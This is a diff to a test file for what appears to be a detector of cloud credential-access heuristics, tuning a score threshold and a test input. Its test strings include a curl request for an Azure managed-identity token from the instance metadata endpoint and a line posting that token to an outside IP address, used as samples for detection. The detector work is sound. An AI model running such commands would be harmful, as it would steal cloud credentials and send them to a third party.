@@ -78,12 +78,12 @@ def test_an_arm_token_used_to_read_the_vms_own_tags_is_not_suspicious_alone() ->
     found = ids(text)
     assert "heur.credential_access.imds_arm_token" in found
     assert "heur.credential_access.imds_token_arm_abuse" not in found
-    assert score(text) < 300
+    assert score(text) <= 250  # room for weak signals (entropy, ...) below the alert threshold
 
 
 def test_curl_options_that_only_look_like_an_upload_do_not_make_a_token_request_exfiltration() -> None:
     text = ('curl -s -D - -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'
-            '&resource=https%3A%2F%2Fvault.azure.net" | grep -i www-authenticate\n'
+            '&resource=https%3A%2F%2Fvault.azure.net" | grep -i www-authenticate | cut -d "=" -f 2\n'
             'curl -f -s -o /tmp/ca.pem https://example.org/ca.pem')
     assert "heur.credential_access.imds_token_exfil" not in ids(text)
     posted = text + '\ncurl -s -d "$TOKEN" https://203.0.113.5/t'
